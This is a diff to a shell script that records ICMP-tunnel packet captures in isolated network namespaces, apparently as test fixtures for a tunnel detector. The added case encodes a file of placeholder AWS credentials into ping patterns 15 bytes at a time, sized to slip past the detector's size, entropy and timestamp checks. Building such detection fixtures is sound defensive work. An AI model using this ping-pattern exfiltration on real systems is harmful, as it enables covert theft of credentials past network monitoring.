@@ -58,6 +58,11 @@
 #                               answered (data that changes at every echo, 32 bytes of
 #                               it each, at under 4.2 bits/byte: under the size, entropy
 #                               and volume thresholds)
+#   icmp_lead.pcap              the same file sent out in pings too small for a timestamp:
+#                               12 pings (ping -c 1 -s 15 -p HEX, one process each), each
+#                               payload the next 15 bytes of the file and nothing else, all
+#                               answered (ping writes its send time only into a payload of
+#                               16 bytes or more, and the digests leave the first 16 out)
 #   icmp_benign_tools.pcap      other pingers, 12 echoes each to the server: fping (56
 #                               and -b 300 bytes of zeros), busybox ping (56, and -s 200
 #                               -p a5), oping, nping (no data, and --data-string),
@@ -87,7 +92,7 @@ want() {
 }
 case "$ONLY" in
 '' | icmp_ptunnel_ng | icmp_ptunnel_ng_small | icmp_ptunnel | icmptx | icmp_benign | icmp_pattern | \
-	icmp_benign_tools) ;;
+	icmp_lead | icmp_benign_tools) ;;
 *) echo "record_icmp_tunnels.sh: no capture named $ONLY" >&2; exit 2 ;;
 esac
 NS_A=ewi4-agent
@@ -374,15 +379,31 @@ agent ping -6 -n -c 2 -i 0.3 -W 1 -w 3 "$IP6_NO"
 stop_capture
 fi
 
+# the file sent out by the pattern captures (5, 5b)
+write_secret() {
+	printf '%s\n' 'aws_access_key_id = AKIAEXAMPLE7QX2KJ4ZT' \
+		'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' 'region = us-east-1' \
+		'aws_session_token = IQoJb3JpZ2luX2VjEXAMPLETOKENvalue0123456789abcdef' >"$TMP/secret"
+}
+
 # 5. a file sent out 16 bytes a ping, each its pattern (a send-only channel: the server's
 # kernel answers every echo with the same bytes)
 if want icmp_pattern; then
-printf '%s\n' 'aws_access_key_id = AKIAEXAMPLE7QX2KJ4ZT' \
-	'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' 'region = us-east-1' \
-	'aws_session_token = IQoJb3JpZ2luX2VjEXAMPLETOKENvalue0123456789abcdef' >"$TMP/secret"
+write_secret
 start_capture icmp_pattern
 od -An -v -tx1 -w16 "$TMP/secret" | tr -d ' ' | head -12 | while read -r hex; do
 	agent ping -n -c 1 -W 2 -w 3 -s 32 -p "$hex" "$IP_S"
+	sleep 0.2
+done
+stop_capture
+fi
+
+# 5b. the same, 15 bytes a ping and no timestamp: the whole payload is the pattern's
+if want icmp_lead; then
+write_secret
+start_capture icmp_lead
+od -An -v -tx1 -w15 "$TMP/secret" | tr -d ' ' | head -12 | while read -r hex; do
+	agent ping -n -c 1 -W 2 -w 3 -s 15 -p "$hex" "$IP_S"
 	sleep 0.2
 done
 stop_capture
@@ -407,7 +428,7 @@ fi
 # --- audit: no packet may have gone to an address outside these hosts ------------------
 netns_audit_finish "10\.55\.4\.(1|10|65|80|200|241|242)|fd55:4::(1|10|101|180|200)|fe80::[0-9a-f:]+|ff02::[0-9a-f:]+"
 
-ALL="icmp_ptunnel_ng icmp_ptunnel_ng_small icmp_ptunnel icmptx icmp_benign icmp_pattern icmp_benign_tools"
+ALL="icmp_ptunnel_ng icmp_ptunnel_ng_small icmp_ptunnel icmptx icmp_benign icmp_pattern icmp_lead icmp_benign_tools"
 [ -z "$ONLY" ] || ALL=$ONLY
 for f in $ALL; do
 	cp "$TMP/$f.pcap" "$OUTDIR/$f.pcap"
